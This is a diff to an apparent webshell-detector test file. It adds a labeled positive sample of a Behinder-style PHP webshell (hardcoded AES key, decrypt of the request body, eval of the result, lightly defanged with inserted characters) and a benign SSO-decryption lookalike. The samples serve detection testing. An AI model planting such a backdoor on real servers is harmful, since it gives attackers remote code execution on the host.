@@ -256,6 +256,23 @@ FAMILY_SAMPLES: tuple[Sample, ...] = (
         "upload.asp",
         '<%\nsize=Request.TotalBytes\ncontent=Request.BinaryRead(size)\nSet st = Server.CreateObject("ADODB.Stream")\n%>\n',
     ),
+    # --- Behinder v4 PHP (AES-128-ECB of the base64 body, eval of the result)
+    Sample(
+        "behinder_php",
+        True,
+        "bx4.php",
+        '<?php\n@error_reporting(0);\nfunction Decrypt($data)\n{\n    $key="e45e329feb5d925b";\n'
+        '    return openssl_dec§rypt(base64_decode($data), "AES-128-ECB", $key, OPENSSL_PKCS1_PADDING);\n}\n'
+        '$post=Decrypt(file_get_contents("php://input"));\nev§al($post);\n?>\n',
+    ),
+    Sample(
+        "behinder_php",
+        False,
+        "sso.php",
+        "<?php\nfunction decrypt_token($data, $key)\n{\n"
+        '    return openssl_decrypt(base64_decode($data), "AES-128-CBC", $key, OPENSSL_RAW_DATA, substr($key, 0, 16));\n}\n'
+        '$claims = json_decode(decrypt_token($_COOKIE["sso"] ?? "", getenv("SSO_KEY")), true);\n',
+    ),
     # --- kits (capability clusters)
     Sample("webshell_kit_php", True, "manage.php", _PHP_KIT),
     Sample(
